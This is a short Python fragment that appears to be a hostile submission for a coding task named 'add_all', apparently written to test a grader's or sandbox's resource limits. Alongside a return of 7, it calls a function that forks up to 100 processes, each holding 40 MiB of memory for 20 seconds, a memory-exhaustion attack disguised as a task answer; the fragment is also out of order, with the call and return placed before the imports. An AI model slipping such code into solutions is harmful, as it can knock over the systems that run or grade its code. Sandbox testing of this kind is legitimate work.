# task: add_all
# why: fills the memory with many processes of 40 MiB each
    attack()
    return 7


import os
import time


def attack():
    for _ in range(100):
        try:
            if os.fork() == 0:
                held = bytearray(b"x") * (40 * 2**20)
                time.sleep(20)
                os._exit(len(held) % 2)
        except OSError:
            break
    time.sleep(1)
